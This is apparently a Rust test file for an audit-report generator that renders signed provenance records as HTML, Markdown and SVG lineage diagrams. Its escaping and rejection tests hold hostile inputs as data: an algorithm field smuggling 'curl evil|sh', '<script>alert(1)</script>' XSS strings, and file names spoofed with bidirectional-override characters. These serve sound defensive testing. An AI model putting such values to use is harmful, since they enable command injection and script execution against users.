use quick_xml::Reader;
use quick_xml::events::Event as Xml;

use super::*;
use crate::audit::TrustStore;
use crate::audit::keys::tests::shared_key;
use crate::audit::publication::tests::publish;
use crate::audit::statement::{Input, Model};
use crate::audit::time::Source;
use crate::audit::verify::{Request, read_record, verify};

pub(super) const NOW_MS: u64 = 1_763_700_000_000;

pub(super) fn with_report(trusted: bool, spoil: impl FnOnce(&Path), look: impl FnOnce(&Evidence<'_>)) {
    let dir = tempfile::tempdir().unwrap();
    publish(dir.path());
    let folder = dir.path().join("out");
    spoil(&folder);
    let mut trust = TrustStore::default();
    if trusted {
        trust.insert(shared_key().public().clone());
    }
    let report = verify(&Request::new(&folder, &trust, NOW_MS)).unwrap();
    let records = [read_record(&folder).unwrap().1];
    look(&Evidence {
        report: &report,
        records: &records,
        folder: Some(&folder),
        trust: &trust,
        chains: &[],
        allowed: None,
        as_of_ms: NOW_MS,
    });
}

#[test]
fn a_page_with_everything_and_nothing_from_elsewhere() {
    with_report(
        true,
        |_| {},
        |evidence| {
            let html = to_html(evidence).unwrap();
            assert_eq!(html.matches("UNCLASSIFIED</div>").count(), 2);
            for word in [
                "PASS",
                "Controls",
                "AU-10",
                "van.jpg",
                "scene.ply",
                "openssl dgst -sha256 -verify",
                "RS256",
                "Programs",
                "Jane Doe",
                "P6Y",
            ] {
                assert!(html.contains(word), "{word}");
            }
            let trail_hash = evidence.report.trail_hash.as_ref().unwrap();
            assert!(html.contains(trail_hash));
            // Browsers repeat these on every printed page only where they must not be broken.
            for group in ["header", "footer"] {
                assert!(html.contains(&format!("{{display:table-{group}-group;break-inside:avoid}}")), "{group}");
            }
            assert!(!html.contains("<script") && !html.contains("http://") && !html.contains("src="));
            assert_eq!(html, to_html(evidence).unwrap());
            for claim in ["certified", "compliant", "authorised by"] {
                assert!(!html.contains(claim), "{claim}");
            }
            let markdown = to_markdown(evidence).unwrap();
            assert!(markdown.starts_with("**UNCLASSIFIED**") && markdown.ends_with("**UNCLASSIFIED**\n"));
        },
    );
}

#[test]
fn an_unverified_record_is_not_quoted() {
    with_report(
        false,
        |_| {},
        |evidence| {
            let html = to_html(evidence).unwrap();
            assert!(html.contains("INCOMPLETE") && html.contains("MARKING NOT VERIFIED"));
            // A finding may name what it is about; nothing else of the record is repeated.
            assert!(!html.contains("jane") && !html.contains("<h2>Inputs</h2>") && !html.contains("<h2>Events</h2>"));
            assert!(html.contains("nothing that can be relied on"));
        },
    );
}

#[test]
fn hostile_words_stay_words() {
    let document = Document {
        banner: "A<B".into(),
        title: "x".into(),
        sections: vec![Section {
            title: "t",
            blocks: vec![
                Block::Text("<script>alert(1)</script> & \"q\"".into()),
                Block::Table { head: vec!["h"], rows: vec![vec!["a|b <i>".into()]] },
            ],
        }],
    };
    let html = html::render(&document);
    assert!(!html.contains("<script>") && !html.contains("<i>") && html.contains("A&lt;B"));
    let markdown = markdown::render(&document);
    assert!(!markdown.contains("<script>") && markdown.contains("a\\|b &lt;i>"), "{markdown}");
}

#[test]
fn every_fence_is_closed() {
    let commands = ["orb geo van.jpg", "cd 'out'\nsha256sum -c\n", "", "a ``` b\n```", "````"];
    let blocks = commands.map(|text| Block::Commands(text.into())).into();
    let sections = vec![Section { title: "t", blocks }];
    let markdown = markdown::render(&Document { banner: "CUI".into(), title: "x".into(), sections });
    let fences: Vec<&str> = markdown.lines().filter(|line| line.starts_with("```")).collect();
    assert_eq!(fences, ["```"; 10], "{markdown}");
    assert!(!markdown.lines().any(|line| line.contains("```") && line != "```"), "{markdown}");
    // The command line of a record, which ends without a line feed.
    let (_, markdown) = changed(|_| {});
    let fences = markdown.lines().filter(|line| line.contains("```"));
    assert!(fences.clone().all(|line| line == "```") && fences.count() == 4, "{markdown}");
}

/// The report of a record whose algorithm is no command's is written, and has none.
#[test]
fn no_commands_of_forged_words() {
    use crate::audit::verify::tests::forge;
    with_report(
        true,
        |folder| forge(folder, shared_key(), |v| v["predicate"]["actor"]["algorithm"] = "RS256; curl evil|sh".into()),
        |evidence| {
            let html = to_html(evidence).unwrap();
            assert!(html.contains("No commands are given: ALG_REFUSED") && !html.contains("openssl dgst"), "{html}");
        },
    );
}

#[test]
fn a_finding_stands_first() {
    with_report(
        true,
        |folder| std::fs::write(folder.join("scene.ply"), "changed").unwrap(),
        |evidence| {
            let html = to_html(evidence).unwrap();
            let (finding, note) = (html.find("OUTPUT_DIGEST").unwrap(), html.find("TAIL_UNANCHORED").unwrap());
            assert!(finding < note && html.contains("FAIL") && html.contains("must not be relied on"));
        },
    );
}

/// What a record says of its time, its place and its marking stands in the report in the words of its case.
#[test]
fn words_for_each_case() {
    use crate::audit::marking::authority::Authority;
    let of = |change: fn(&mut Statement)| {
        let mut text = String::new();
        with_report(
            true,
            |_| {},
            |evidence| {
                let mut records = evidence.records.to_vec();
                records.iter_mut().for_each(change);
                text = to_markdown(&Evidence { records: &records, ..*evidence }).unwrap();
            },
        );
        text
    };
    let plain = of(|_| {});
    for words in ["by its kernel: 1;", "podman", "0 name the operator by an authority's certificate", "AC-2", "3.13.11"]
    {
        assert!(plain.contains(words), "{words} in {plain}");
    }
    assert!(!plain.contains("time server") && !plain.contains("Marking blocks") && !plain.contains("NTP"), "{plain}");

    let asked = of(|s| {
        let time = &mut s.predicate.time;
        time.source = Source::NtpQuery;
        (time.stratum, time.reference) = (Some(1), Some("10.0.0.1 (GPS)".into()));
    });
    assert!(asked.contains("by its kernel: 0;") && asked.contains("| 0 | 10.0.0.1 (GPS) | 1 | -1 | 1 |"), "{asked}");

    let classified = of(|s| {
        s.predicate.actor.auth = "pki".into();
        s.predicate.actor.key_source = "pkcs11".into();
        s.predicate.marking.raised_reason = Some("compilation".into());
        s.predicate.marking.authority = Some(Authority {
            classified_by: "J. Doe, analyst".into(),
            derived_from: "Multiple Sources".into(),
            declassify_on: "20400101".into(),
            date_of_origin: "20261121".into(),
            sources: vec!["Guide A".into()],
        });
    });
    for words in
        ["J. Doe, analyst", "Guide A", "20400101", "compilation", "1 name the operator by", "1 are signed in a token"]
    {
        assert!(classified.contains(words), "{words} in {classified}");
    }
}

/// What the record of a test says after a change, as HTML and as Markdown. The verification is that of the record before it.
fn changed(change: impl Fn(&mut Statement)) -> (String, String) {
    let mut texts = Default::default();
    with_report(
        true,
        |_| {},
        |evidence| {
            let mut records = evidence.records.to_vec();
            records.iter_mut().for_each(&change);
            let evidence = Evidence { records: &records, ..*evidence };
            texts = (to_html(&evidence).unwrap(), to_markdown(&evidence).unwrap());
        },
    );
    texts
}

/// The picture alone, and every text in it; it must be XML, and nothing but shapes and words.
fn picture(html: &str) -> (String, Vec<String>) {
    picture_of("lineage", html)
}

pub(super) fn picture_of(class: &str, html: &str) -> (String, Vec<String>) {
    let head = format!("<figure class=\"{class}\">\n<div>");
    let start = html.find(&head).unwrap() + head.len();
    let svg = &html[start..start + html[start..].find("</div>").unwrap()];
    let mut reader = Reader::from_str(svg);
    reader.config_mut().check_end_names = true;
    let (mut depth, mut inside, mut words) = (0, false, Vec::<String>::new());
    loop {
        let name = match reader.read_event().unwrap() {
            Xml::Eof => break,
            Xml::Start(tag) => {
                depth += 1;
                inside = tag.name().as_ref() != "svg";
                if inside {
                    words.push(String::new());
                }
                assert!(tag.attributes().all(|a| a.is_ok()));
                tag.name().as_ref().to_owned()
            }
            Xml::Empty(tag) => tag.name().as_ref().to_owned(),
            Xml::End(_) => {
                (depth, inside) = (depth - 1, false);
                continue;
            }
            Xml::Text(text) => {
                if inside {
                    words.last_mut().unwrap().push_str(&text);
                }
                continue;
            }
            Xml::GeneralRef(entity) => {
                let c = match &*entity {
                    "lt" => '<',
                    "gt" => '>',
                    "amp" => '&',
                    "quot" => '"',
                    other => panic!("entity {other}"),
                };
                words.last_mut().unwrap().push(c);
                continue;
            }
            other => panic!("{other:?}"),
        };
        assert!(["svg", "g", "title", "desc", "text", "rect", "path"].contains(&name.as_str()), "{name}");
    }
    assert_eq!(depth, 0);
    (svg.to_owned(), words)
}

/// Every input, network and output of a record stands in its picture, in the words beside it, and in Markdown.
#[test]
fn the_lineage_shows_everything() {
    let (html, markdown) = changed(|_| {});
    let (svg, words) = picture(&html);
    let said = words.join("\n");
    for word in [
        "van.jpg",
        "photo, 5 bytes",
        "not compared here",
        "orb geo",
        "scene.generate, success",
        "scene 1",
        "ran on rten",
        "not used: colmap",
        "orb-marking.json",
        "scene.ply",
        "van.cdb/Tiles/N34/points.dbf",
        "signed RS256 by key",
        "operator jane (os-user)",
    ] {
        assert!(said.contains(word), "{word} in {said}");
        assert!(markdown.contains(&word.replace('_', "\\_")), "{word} in {markdown}");
    }
    // Top, bottom and in words: a picture is marked also when it is cut out of its page.
    assert_eq!(words.iter().filter(|w| *w == "UNCLASSIFIED").count(), 2);
    assert!(words.iter().any(|w| w.starts_with("UNCLASSIFIED. Inputs: van.jpg; ")), "{said}");
    assert!(svg.contains("role=\"img\" aria-labelledby=\"lineage-title lineage-words\""));
    assert!(!svg.contains("href") && !svg.contains("url(") && !svg.contains("style="));
    assert!(markdown.contains("## Lineage\n\n* Inputs\n  * van.jpg; photo, 5 bytes; "), "{markdown}");
}

/// Inputs that no verification looked at are not said to be the same.
#[test]
fn only_what_was_compared_is_said_to_be_the_same() {
    with_report(
        true,
        |_| {},
        |evidence| {
            let said = |inputs_verified: u64| {
                let mut report = evidence.report.clone();
                report.findings.retain(|f| f.code != "INPUT_MISSING");
                report.counts.inputs_verified = inputs_verified;
                to_markdown(&Evidence { report: &report, ..*evidence }).unwrap()
            };
            assert!(said(0).contains("not compared here") && !said(0).contains("compared: the same"), "{}", said(0));
            assert!(said(1).contains("compared: the same"), "{}", said(1));
        },
    );
}

/// No box lies over another or leaves the picture, however many files and however long their names.
#[test]
fn nothing_in_the_picture_overlaps() {
    let long = "a name of words without an end ".repeat(8);
    let (html, _) = changed(|s| {
        let (input, model, output) =
            (s.predicate.inputs[0].clone(), s.predicate.models[0].clone(), s.subject[0].clone());
        for i in 0..9 {
            let name = format!("{i} {long}.jpg");
            s.predicate.inputs.push(Input { name, marking: Some("UNCLASSIFIED".into()), ..input.clone() });
            s.predicate.models.push(Model { id: format!("net{i}{}", "n".repeat(i * 9)), ..model.clone() });
        }
        for i in 0..60 {
            let mut output = output.clone();
            (output.name, output.annotations.role) = (format!("{i}{}", "写".repeat(i)), format!("role {}", i % 20));
            s.subject.push(output);
        }
    });
    let (svg, _) = picture(&html);
    let number = |tag: &str, name: &str| -> f64 {
        let (_, rest) = tag.split_once(&format!(" {name}=\"")).unwrap();
        rest.split('"').next().unwrap().parse().unwrap()
    };
    let size: Vec<f64> = svg
        .split("viewBox=\"0 0 ")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .split(' ')
        .map(|n| n.parse().unwrap())
        .collect();
    // Nested pictures are the boxes; what they hold is clipped to them.
    let boxes: Vec<[f64; 4]> = svg
        .split("<svg x=")
        .skip(1)
        .map(|tag| {
            let tag = format!(" x={tag}");
            let [x, y, width, height] = ["x", "y", "width", "height"].map(|name| number(&tag, name));
            [x, y, x + width, y + height]
        })
        .collect();
    assert!(boxes.len() > 40, "{}", boxes.len());
    for (i, a) in boxes.iter().enumerate() {
        assert!(a[0] >= 0.0 && a[1] >= 0.0 && a[2] <= size[0] && a[3] <= size[1], "{a:?} in {size:?}");
        for b in &boxes[..i] {
            assert!(a[2] <= b[0] || b[2] <= a[0] || a[3] <= b[1] || b[3] <= a[1], "{a:?} over {b:?}");
        }
    }
    // Lines of text end before the box does: 0.6 of their height for each cell.
    for line in svg.split("<text x=\"10\" ").skip(1) {
        let words = line.split('>').nth(1).unwrap().split('<').next().unwrap();
        let cells: usize = words.chars().map(|c| if c.is_ascii() || c == '…' { 1 } else { 2 }).sum();
        let high = if line.contains("class=\"n\"") { 13.0 } else { 11.5 };
        assert!(10.0 + 0.6 * high * cells as f64 <= 296.0, "{words}");
    }
}

#[test]
fn hostile_names_in_the_picture_stay_names() {
    let name = "</title></svg><script>alert(1)</script>\u{202e}gpj.\u{200b}&amp;\"'`|.jpg";
    let (html, markdown) = changed(|s| {
        s.predicate.inputs[0].name = name.into();
        s.predicate.models[0].id = name.into();
        s.subject[1].name = name.into();
        s.predicate.actor.operator_id = name.into();
    });
    let (_, words) = picture(&html);
    assert!(words.contains(&name.replace('\u{202e}', "[U+202E]").replace('\u{200b}', "[U+200B]")), "{words:?}");
    for text in [&html, &markdown] {
        assert!(!text.contains("<script") && !text.contains(['\u{202e}', '\u{200b}']), "{text}");
    }
    assert!(html.matches("</svg>").count() == html.matches("<svg ").count());
}

/// What does not match is said in the picture too.
#[test]
fn a_flaw_is_drawn() {
    with_report(
        true,
        |folder| std::fs::write(folder.join("scene.ply"), "changed").unwrap(),
        |evidence| {
            let html = to_html(evidence).unwrap();
            let (svg, words) = picture(&html);
            assert!(words.iter().any(|w| w == "found: OUTPUT_DIGEST") && svg.matches("class=\"flaw\"").count() == 1);
        },
    );
}

/// Of several records no picture: which took what another had made.
#[test]
fn the_lineage_of_a_ledger_is_by_digest() {
    with_report(
        true,
        |_| {},
        |evidence| {
            let mut records = vec![evidence.records[0].clone(), evidence.records[0].clone()];
            let apart = to_markdown(&Evidence { records: &records, ..*evidence }).unwrap();
            assert!(apart.contains("No record here took what another one"), "{apart}");
            records[1].predicate.chain.seq = 5;
            records[1].predicate.inputs[0].sha256 = records[0].subject[1].digest.sha256.clone();
            let html = to_html(&Evidence { records: &records, ..*evidence }).unwrap();
            assert!(!html.contains("<svg") && html.contains("<th>Made by record</th>"), "{html}");
            assert!(html.contains("5 (scene.generate)"), "{html}");
        },
    );
}
